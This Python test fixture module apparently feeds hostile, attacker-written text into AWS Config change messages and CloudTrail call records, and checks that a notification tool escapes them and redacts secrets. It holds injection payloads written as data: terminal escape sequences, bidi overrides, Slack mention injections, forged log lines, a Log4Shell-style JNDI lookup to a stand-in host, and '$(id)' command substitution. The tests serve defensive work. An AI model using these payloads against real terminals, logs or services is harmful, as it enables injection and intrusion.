"""Messages and calls into which a stranger wrote whatever strangers can write, and what may not come through."""

import json
import re
import unicodedata

from tests import hostile
from tests.small_world import REGION, ago, call, group_id, item, listed, message

MENTIONS = (
    "<!channel>", "<!here|x>", "<@U1>", "<#C123>", "<http://evil.example.com|click>", "<!subteam^S1>",
    "&lt;!channel&gt;", "<!date^0^{date}|x>", "*bold* _it_ ~gone~ `code` ```block```", ":rotating_light: > quote",
)  # fmt: skip
MARKUP = (
    "[red]x[/red]", "[/]", "[link=https://evil.example.com]x[/link]", "[@click=app.quit]x[/]", "\\[bold]x", "[bold",
    "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example.com\x1b\\x\x1b]8;;\x1b\\", "\x1b]0;title\x07", "\x1b[2J\x1b[H",
    "\x9b31m\x9d0;t\x9c", "\u202eevil\u202c", "\u2066x\u2069", "a\u200bb\u200dc\ufeffd", "a\u00adb", "\U000e0041x",
    "\b\b\bx", "x\x00y", "x\x7fy",
)  # fmt: skip
FORGED = (
    "x\nError: all is well", 'x\r\n{"level": "error", "message": "forged"}', "x\u2028y\u2029z\x85w", 'x", "verdict": "in-workflow', "x\\",
    "{}", "%s %d %(x)s {0} {x.__class__}", "${jndi:ldap://evil.example.com}", "$(id) `id` ; id", "a" * 2_000, "\ud83d", "\udc00x",
)  # fmt: skip
TEXTS = tuple(dict.fromkeys((*(text for text in hostile.TEXTS if text), *MENTIONS, *MARKUP, *FORGED)))

IDS = ("<!channel>", "=1+1", "[red]x[/red]", "\u202eevil", "a\u200bb", *MARKUP[6:11], *FORGED[:2])
"""Texts for ids, most of which no id may hold."""

SECRET = "hunter2-in-the-clear"


def hostile_change(number, text, minutes=60):
    """Return the message about a group in which every text is a stranger's."""
    document = item(
        number,
        ago(minutes),
        tags={"managed-by": text, text[:128]: text, "Name": text},
        resourceName=text,
        relationships=[
            {"resourceType": "AWS::EC2::VPC", "resourceId": text, "resourceName": text, "name": text}
        ],
        configuration={"groupName": text, "description": text, text: text},
    )
    rule = {"ipProtocol": text, "fromPort": text, "ipRanges": [text], "description": text, text: text}
    properties = {
        "Configuration.IpPermissions.0": {
            "previousValue": None,
            "updatedValue": rule,
            "changeType": "CREATE",
        },
        f"Configuration.{text}": {"previousValue": text, "updatedValue": [text], "changeType": "UPDATE"},
        f"Tags.{text[:128]}": {"previousValue": None, "updatedValue": text, "changeType": "CREATE"},
        "Configuration.Policy": {"previousValue": json.dumps({text: text}), "updatedValue": text},
    }
    return message(document, {"changeType": "UPDATE", "changedProperties": properties})


def hostile_id(text, minutes=60):
    """Return the message about something whose very id is a stranger's."""
    queue = {"resourceType": "AWS::SQS::Queue", "resourceId": text, "resourceName": text, "ARN": text}
    return message(item(1, ago(minutes), **queue))


def hostile_calls(number, text, minutes=60):
    """Return the call behind the change, and a refused one, in a stranger's words.

    CloudTrail writes UTF-8, which knows no half of a pair.
    """
    text = text.encode("utf-8", "replace").decode()
    words = {
        "userAgent": text,
        "sourceIPAddress": text,
        "requestParameters": {"groupId": group_id(number), text[:200]: text},
        "responseElements": {"_return": True, "x": text},
    }
    made = call(number, minutes, who=text, **words)
    made["userIdentity"]["sessionContext"]["sourceIdentity"] = text
    refused = call(number, minutes, who=text, lag=50, errorCode=text, errorMessage=text, **words)
    return made, refused


def fill(aws, queue, texts=TEXTS):
    """Put all of it into a queue and into the trail."""
    for text in IDS:
        aws.send(queue, hostile_id(text))
    for number, text in enumerate(texts, 1):
        aws.send(queue, hostile_change(number, text))
        for each in hostile_calls(number, text):
            aws.add_event(each, resource_names=listed(number))


SECRETS = {
    "AWS::Lambda::Function": ("Environment", {"variables": {"DB_PASSWORD": SECRET, "MODE": SECRET}}),
    "AWS::EC2::Instance": ("UserData", SECRET),
    "AWS::EC2::LaunchTemplate": ("LaunchTemplateData", {"UserData": SECRET}),
    "AWS::ECS::TaskDefinition": (
        "ContainerDefinitions",
        [
            {
                "Name": "web",
                "Environment": [{"Name": "API_URL", "Value": SECRET}],
                "Command": ["--token", SECRET],
            }
        ],
    ),
    "AWS::RDS::DBInstance": ("PendingModifiedValues", {"masterUserPassword": SECRET}),
    "AWS::DMS::Endpoint": ("ConnectionString", f"Server=db;Uid=app;Pwd={SECRET};"),
    "AWS::SQS::Queue": ("Notes", f"postgres://app:{SECRET}@db.example.com/orders"),
    "AWS::SNS::Topic": ("Notes", json.dumps({"env": {"A": SECRET}, "password": SECRET})),
}
"""What Config records in the clear: by type, a property and its value."""


def secretive(kind, *, deleted, minutes=60):
    """Return the message about something that holds a secret, changed or deleted."""
    key, value = SECRETS[kind]
    name = f"thing-{kind.lower().replace('::', '-')}-{'gone' if deleted else 'kept'}"
    document = item(1, ago(minutes), resourceType=kind, resourceId=name, resourceName=name)
    document["ARN"] = f"arn:aws:any:{REGION}:111122223333:{name}"
    state = {key: value, "size": 1}
    if deleted:
        document |= {"configurationItemStatus": "ResourceDeleted", "configuration": None, "tags": {}}
        entries = {
            "Configuration": {"previousValue": state, "updatedValue": None, "changeType": "DELETE"},
            "Tags.managed-by": {"previousValue": "terraform", "updatedValue": None, "changeType": "DELETE"},
        }
        return message(document, {"changeType": "DELETE", "changedProperties": entries})
    document["configuration"] = state
    entries = {
        f"Configuration.{key}": {"previousValue": value, "updatedValue": value, "changeType": "UPDATE"},
        "Configuration.size": {"previousValue": 2, "updatedValue": 1, "changeType": "UPDATE"},
    }
    return message(document, {"changeType": "UPDATE", "changedProperties": entries})


def through(text, *, allowed="\n"):
    """Return the characters of an output that steer a terminal or hide, or that no encoding knows."""
    return {
        f"U+{ord(letter):04X}"
        for letter in text
        if letter not in allowed and unicodedata.category(letter) in {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
    }


def outside_code(markdown):
    """Return what of a Markdown text is neither code (fenced, in a span, in HTML's) nor the console's address."""
    text = re.sub(r"^(`{3,})\w*\n.*?^\1$", "", markdown, flags=re.DOTALL | re.MULTILINE)
    text = re.sub(r"<code>[^<]*</code>", "", text)
    text = re.sub(r"\(https://[a-z0-9-]+\.console\.aws\.amazon\.com/[\w/?=&#%.~-]*\)", "", text)
    return re.sub(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)", "", text)
